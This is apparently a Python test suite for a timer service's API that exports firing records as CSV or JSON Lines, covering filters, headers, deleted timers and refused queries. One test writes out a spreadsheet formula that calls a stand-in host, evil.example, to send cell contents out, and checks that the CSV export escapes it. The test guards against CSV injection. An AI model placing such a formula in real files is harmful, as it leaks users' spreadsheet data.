"""All firings that meet the conditions, as CSV or JSON Lines."""

import csv
import io
import json
import sys
from dataclasses import dataclass
from typing import Any

import pytest

from tests.api.v1.world import TIMERS, URL, V1World
from tests.store.members import outcome_of
from wangtimer.core.flow.firing import FiringStatus, Member
from wangtimer.store.sql import parts

EXPORT, FIRINGS = "/v1/firings:export", "/v1/firings"
SECOND, MINUTE = 1_000, 60_000


@dataclass(frozen=True)
class Some:
    """Two timers of one app and one of another, three seconds on from the moment of the first of their firings."""

    world: V1World
    a: int
    b: int
    first: int

    def settle(self, timer_id: int, moment: int, status: FiringStatus, **fields: Any) -> None:
        self.world.wiring.firings.settle([outcome_of(Member(timer_id, moment, 1), status, **fields)])

    def listed(self, **query: Any) -> Any:
        return self.world.send("GET", FIRINGS, query=query).json["items"]

    def exported(self, **query: Any) -> list[Any]:
        return [json.loads(line) for line in self.text(**query).splitlines()]

    def table(self, **query: Any) -> list[dict[str, str]]:
        return list(csv.DictReader(io.StringIO(self.text(format="csv", **query), newline="")))

    def text(self, **query: Any) -> str:
        answered = self.world.send("GET", EXPORT, query=query)
        assert answered.status == 200, answered.json
        return str(answered.json)


@pytest.fixture
def some(world: V1World) -> Some:
    a, b = (world.made(key=key, tags=[key]).json["id"] for key in "ab")
    world.send("POST", TIMERS, {"schedule": {"every": "1s"}, "target": {"url": URL}}, app="bank")
    world.clock.now += 3 * SECOND
    made = Some(world, a, b, (world.clock.now // SECOND - 2) * SECOND)
    made.settle(a, made.first, FiringStatus.SUCCEEDED, output='a "b",\n中')
    made.settle(b, made.first + SECOND, FiringStatus.FAILED, lateness_ms=90)
    return made


def test_an_export_has_every_row_of_the_list_in_either_form(
    some: Some, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(sys.modules["wangtimer.api.v1.firings.firing_routes"], "EXPORT_PAGE", 1)
    rows = some.listed()
    assert {row["app"] for row in rows} == {"shop"}
    assert some.exported() == rows
    for row, cells in zip(rows, some.table(), strict=True):
        assert {name: cell for name, cell in cells.items() if cell} == {
            name: str(value) for name, value in row.items() if value not in (None, "")
        }


def test_each_form_says_what_it_is_and_is_a_file(some: Some) -> None:
    for form, content_type in (("csv", "text/csv; charset=utf-8"), ("jsonl", "application/x-ndjson")):
        headers = some.world.send("GET", EXPORT, query={"format": form}).headers
        assert headers["Content-Type"] == content_type
        assert headers["Content-Disposition"] == f'attachment; filename="firings.{form}"'


def test_an_export_has_what_the_conditions_of_the_list_leave(some: Some) -> None:
    first, second = some.first, some.first + SECOND
    for query in (
        {"timer": "key:a"},
        {"tag": "b"},
        {"status": "failed"},
        {"kind": "manual"},
        {"since": second, "until": second},
        {"until": first - SECOND},
        {"laterThan": "89ms"},
    ):
        assert some.exported(**query) == some.listed(**query)
    assert [row["timerId"] for row in some.exported(laterThan="89ms")] == [some.b]
    assert some.exported(since=second, until=second, status="failed")[0]["id"] == f"{some.b}-{second}"


def test_a_deleted_timers_firings_are_exported(some: Some) -> None:
    before = some.exported(timer=some.a)
    some.world.send("DELETE", f"{TIMERS}/{some.a}", rule=f"{TIMERS}/{{which}}")
    after = some.exported(timer=some.a)
    assert [row["id"] for row in before] == [row["id"] for row in after]
    assert {row["timerKey"] for row in after} == {"a"}


def test_an_operator_who_names_no_app_exports_those_of_all(some: Some) -> None:
    lines = some.world.send("GET", EXPORT, app=None).json.splitlines()
    assert {json.loads(line)["app"] for line in lines} == {"shop", "bank"}


def test_a_spreadsheet_runs_no_cell_of_a_table_and_lines_of_json_have_each_text_as_it_is(some: Some) -> None:
    """A target's answer is whatever the target writes."""
    formula = '=HYPERLINK("http://evil.example/?"&A1)'
    some.settle(some.a, some.first + SECOND, FiringStatus.FAILED, lateness_ms=-1, output=formula)
    asked = {"timer": some.a, "status": "failed"}
    (cells,) = some.table(**asked)
    assert (cells["output"], cells["latenessMs"]) == (f"'{formula}", "-1")
    (row,) = some.exported(**asked)
    assert row["output"] == formula


def test_an_export_of_nothing_has_its_header(world: V1World) -> None:
    table = world.send("GET", EXPORT, query={"format": "csv"}).json
    assert table.startswith("id,timerId,timerKey,url,")
    assert len(table.splitlines()) == 1


def test_what_takes_too_long_to_look_through_is_exported_all_the_same(
    some: Some, monkeypatch: pytest.MonkeyPatch
) -> None:
    listed = some.listed()
    monkeypatch.setattr(parts, "LONGEST_S", 0.0)
    for path in (FIRINGS, f"{FIRINGS}:count"):
        refused = some.world.send("GET", path)
        assert (refused.status, refused.json["code"], refused.json["parameter"]) == (400, 40007, "since")
    assert some.exported() == listed


@pytest.mark.parametrize("query", [{"format": "xlsx"}, {"limit": 5}, {"cursor": "x"}, {"status": "late"}])
def test_what_cannot_be_asked_is_refused(small_world: V1World, query: dict[str, Any]) -> None:
    refused = small_world.send("GET", EXPORT, query=query)
    assert (refused.status, refused.json["parameter"]) == (400, next(iter(query)))


@pytest.mark.parametrize("path", [FIRINGS, f"{FIRINGS}:count", EXPORT])
def test_a_range_that_ends_before_it_begins_is_refused(small_world: V1World, path: str) -> None:
    now = small_world.clock.now
    refused = small_world.send("GET", path, query={"since": now, "until": now - 1})
    assert (refused.json["code"], refused.json["parameter"]) == (40007, "since")
    assert small_world.send("GET", path, query={"since": now, "until": now}).status == 200
